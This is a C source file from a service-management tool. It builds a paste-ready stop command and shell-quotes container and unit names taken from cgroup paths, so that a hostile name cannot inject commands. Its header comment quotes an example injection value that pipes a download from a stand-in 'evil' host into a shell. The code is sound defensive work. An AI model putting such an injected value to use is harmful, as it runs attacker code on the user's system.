/*
 * stopcmd.c - the command that removes a service rather than hiding it
 * behind a closed port ("systemctl disable --now smbd.service"), printed
 * after `close` for the user to copy and paste, often as root.
 *
 * The names in it come from the process's cgroup path, which whoever runs
 * a delegated cgroup subtree (a user manager, a container runtime) chooses
 * freely: a cgroup named "x;curl evil|sh #.service" must not turn into a
 * command that runs curl.  A name made only of the characters systemd
 * allows in unit names (letters, digits, ":-_.\@") is printed as it is;
 * any other printable name is wrapped in single quotes (inside which a
 * POSIX shell expands nothing; a quote itself becomes '\''); a name with
 * control characters or non-ASCII bytes, which could also rewrite what
 * the terminal shows, gets no such command at all, only "kill PID".
 */
#include <stdio.h>
#include <string.h>

#include "portier/fw.h"
#include "portier/local.h"

static bool plain_char(unsigned char c)
{
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
	       (c >= '0' && c <= '9') || strchr("@._:-\\", c) != NULL;
}

/*
 * name as one shell word into buf: plain, or single-quoted.  False when it
 * holds a byte that is not printable ASCII, or does not fit.
 */
static bool shell_word(const char *name, char *buf, size_t len)
{
	const unsigned char *c;
	bool plain = *name != '\0';
	size_t n = 0;

	for (c = (const unsigned char *)name; *c; c++) {
		if (*c < 0x20 || *c >= 0x7f)
			return false;
		if (!plain_char(*c))
			plain = false;
	}
	if (plain)
		return portier_strlcpy(buf, name, len) < len;
	if (len < 3)
		return false;
	buf[n++] = '\'';
	for (c = (const unsigned char *)name; *c; c++) {
		const char *piece = *c == '\'' ? "'\\''" : NULL;
		size_t plen = piece ? 4 : 1;

		if (n + plen + 2 > len)
			return false;
		if (piece)
			memcpy(buf + n, piece, plen);
		else
			buf[n] = (char)*c;
		n += plen;
	}
	buf[n++] = '\'';
	buf[n] = '\0';
	return true;
}

/* "verb word" into buf if name makes a shell word and all of it fits. */
static bool with_word(const char *verb, const char *name, char *buf, size_t len)
{
	char word[512];
	int n;

	if (!shell_word(name, word, sizeof(word)))
		return false;
	n = snprintf(buf, len, "%s %s", verb, word);
	return n > 0 && (size_t)n < len;
}

void portier_fw_stop_command(const struct portier_proc *p, char *buf,
			     size_t len)
{
	if (!p) {
		snprintf(buf, len,
			 "find the owner with 'sudo portier local -l'");
		return;
	}
	if (p->container && strncmp(p->container, "docker:", 7) == 0 &&
	    with_word("docker stop", p->container + 7, buf, len))
		return;
	if (p->container && strncmp(p->container, "podman:", 7) == 0 &&
	    with_word("podman stop", p->container + 7, buf, len))
		return;
	if (p->unit &&
	    (strstr(p->unit, ".service") || strstr(p->unit, ".socket")) &&
	    with_word("systemctl disable --now", p->unit, buf, len))
		return;
	snprintf(buf, len, "kill %d (and remove what starts it)", p->pid);
}
